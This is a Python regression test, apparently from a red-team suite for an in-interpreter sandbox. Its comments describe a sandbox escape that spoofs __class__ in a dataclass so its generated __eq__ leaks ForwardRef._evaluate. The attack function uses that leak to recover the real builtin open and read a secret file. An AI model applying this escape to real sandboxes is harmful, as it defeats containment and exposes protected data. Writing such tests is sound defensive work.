# mypy: ignore-errors
# Technique: as `class_dataclass_eq_spoofed_class`, with `__class__` answered by the
# plugin's own `__getattribute__` instead of a property (which it may define: it serves
# every attribute from plugin data). The dataclass's generated `__eq__` saw
# `other.__class__ is self.__class__` hold for a real `typing.ForwardRef` and compared the
# private field `_evaluate` of both: the plugin's value was handed `ForwardRef._evaluate`,
# an `eval` with the real builtins. Found in the ninth red-team pass of the
# in-interpreter layer; was a real in-interpreter escape (the real `open`, 3.11-3.13) before
# the fix (a class's `__getattribute__` never answers `__class__` or `__dict__`).
import dataclasses
import typing

U = "_" * 2
caught = []


def _ref(text):
    return typing.get_args(typing.List[text])[0]  # noqa: UP006 - it makes the ForwardRef


FR = type(_ref("x"))


class Catch:
    def __eq__(self, other):
        caught.append(other)
        return True


answers = {"_evaluate": Catch()}


@dataclasses.dataclass
class Spoof:
    _evaluate: object

    def __getattribute__(self, name):
        if name == U + "class" + U:
            return FR
        return answers[name]


def attack(secret_path, canary_path):
    Spoof(1) == _ref("open")  # noqa: B015 - the comparison is the attack
    if not caught:
        return "contained"
    try:
        real_open = caught[-1]({}, {}, recursive_guard=frozenset())
    except TypeError:  # 3.11's signature
        real_open = caught[-1]({}, {}, frozenset())
    print("SANDBOX-" + "ESCAPED")
    return real_open(secret_path).read()
